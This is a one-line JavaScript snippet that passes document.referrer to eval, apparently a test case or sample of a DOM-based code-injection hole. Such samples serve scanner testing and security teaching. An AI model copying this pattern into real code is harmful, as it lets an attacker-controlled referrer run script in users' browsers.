['1+1', document.referrer].map(eval);
